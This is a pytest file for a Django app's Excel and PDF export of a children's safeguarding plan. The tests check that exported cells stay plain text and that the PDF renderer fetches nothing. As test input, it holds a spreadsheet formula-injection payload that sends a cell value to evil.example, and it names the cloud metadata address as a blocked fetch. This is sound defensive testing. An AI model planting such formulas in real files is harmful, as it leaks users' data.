import datetime
import io
import shutil
import subprocess
import zipfile

import pytest
from openpyxl import load_workbook

from conftest import client_for
from safeboard.partnerships.domain.roles import Role
from safeboard.plans.tests.factories import ProgressUpdateFactory, StatementFactory

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def exported(tenancy, world):
    world.plan.version = "1.2"
    world.plan.save()
    StatementFactory(plan=world.plan, title="Vision", body="Children are safe.\n- and heard")
    world.action_of_a.title = HOSTILE
    world.action_of_a.description = "-1 formula start\nsecond line"
    world.action_of_a.rag, world.action_of_a.status = "red", "off_track"
    world.action_of_a.due_date = datetime.date(2018, 3, 31)
    world.action_of_a.save()
    world.action_of_a.themes.add(world.neglect)
    ProgressUpdateFactory(
        action=world.action_of_a, date=datetime.date(2018, 2, 1), narrative="+Toolkit drafted"
    )
    return world


def test_it_exports_the_plan_to_excel_with_text_kept_as_text(tenancy, exported):
    response = client_for(tenancy.user(Role.BOARD_MEMBER)).get(
        f"/p/ourshire/plans/{exported.plan.pk}/export/xlsx/"
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="sbp-2017-2019.xlsx"' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Actions", "Themes", "Plan"]

    actions = workbook["Actions"]
    header = [c.value for c in actions[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in actions.iter_rows(2)]
    hostile = next(r for r in rows if "HYPERLINK" in str(r["Action"]))
    # Exactly as typed, no stray apostrophe, and written as text (never a formula, below).
    assert hostile["Action"] == HOSTILE
    assert hostile["Description"] == "-1 formula start\nsecond line"
    assert hostile["Latest update"] == "+Toolkit drafted"
    assert (hostile["Status"], hostile["RAG"]) == ("Off track", "Red")
    assert hostile["Owning group"] == "Neglect Sub-Group"
    assert hostile["Due date"] == datetime.datetime(2018, 3, 31)
    assert hostile["Priorities and themes"] == "Neglect"
    for row in actions.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    blank = next(r for r in rows if r["Action"] == "Run training")
    assert (blank["Status"], blank["RAG"], blank["Due date"]) == (None, None, None)
    due_dates = [row[7] for row in actions.iter_rows(2) if row[7].value is not None]
    assert due_dates
    assert {cell.number_format for cell in due_dates} == {"DD/MM/YYYY"}

    themes = [[c.value for c in row] for row in workbook["Themes"].iter_rows(2)]
    assert themes == [
        [
            "Strategic priority",
            "Neglect",
            None,
            "Fewer children neglected",
            None,
            1,
            0,
            0,
            0,
            0,
            "Red",
        ]
    ]
    details = {str(key): value for key, value in workbook["Plan"].iter_rows(2, values_only=True)}
    assert details["Version"] == "1.2"
    assert details["Approved by"] is None
    assert isinstance(details["Exported"], datetime.datetime)


def _pdf_text(pdf: bytes, plan) -> str:
    """The text of the PDF (pdftotext), or, where pdftotext is not installed, the text of the
    boxes WeasyPrint laid out on the pages of the same print template."""
    pdftotext = shutil.which("pdftotext")
    if pdftotext is not None:
        result = subprocess.run(  # noqa: S603 - a fixed local program on bytes we made
            [pdftotext, "-layout", "-", "-"], input=pdf, capture_output=True, check=True
        )
        return result.stdout.decode()
    return _laid_out_text(plan)


def _laid_out_text(plan) -> str:
    import weasyprint
    from django.template.loader import render_to_string

    from safeboard.plans.selectors import plan_export

    today = datetime.date.today()
    html = render_to_string(
        "plans/print/plan.html",
        {"data": plan_export(plan=plan, today=today), "plan": plan, "today": today},
    )
    document = weasyprint.HTML(string=html).render()
    assert document.pages

    def texts(box):
        if getattr(box, "text", None):
            yield box.text
        for child in getattr(box, "children", []) or []:
            yield from texts(child)

    words = [t for page in document.pages for t in texts(page._page_box)]
    return " ".join(words)


def test_it_prints_the_plan_as_a_pdf(tenancy, exported):
    response = client_for(tenancy.user(Role.AGENCY_LEAD)).get(
        f"/p/ourshire/plans/{exported.plan.pk}/export/pdf/"
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert 'filename="sbp-2017-2019.pdf"' in response["Content-Disposition"]
    assert response.content.startswith(b"%PDF")
    text = _pdf_text(response.content, exported.plan)
    assert "Strategic Business Plan" in text
    assert "Ourshire Safeguarding Children Partnership" in text
    if shutil.which("pdftotext"):  # page numbers are in margin boxes, read from the PDF only
        assert "Page 1 of" in text
    assert "Not recorded" in text  # the blank approval fields
    assert "Children are safe." in text
    assert "Fewer children neglected" in text
    assert "Neglect strategy" in text
    assert "Off track" in text
    assert "Toolkit drafted" in text
    assert "HYPERLINK" in text  # printed as text


def test_it_lays_out_the_print_template_on_pages(tenancy, exported):
    text = _laid_out_text(exported.plan)
    assert "Strategic Business Plan" in text
    assert "Toolkit drafted" in text


def test_it_renders_the_print_template_without_fetching_anything(tenancy, exported):
    from safeboard.reports.renderers.pdf import FetchRefused, refusing_fetcher

    with pytest.raises(FetchRefused, match="fetch no resources"):
        refusing_fetcher()("http://169.254.169.254/latest/meta-data/")
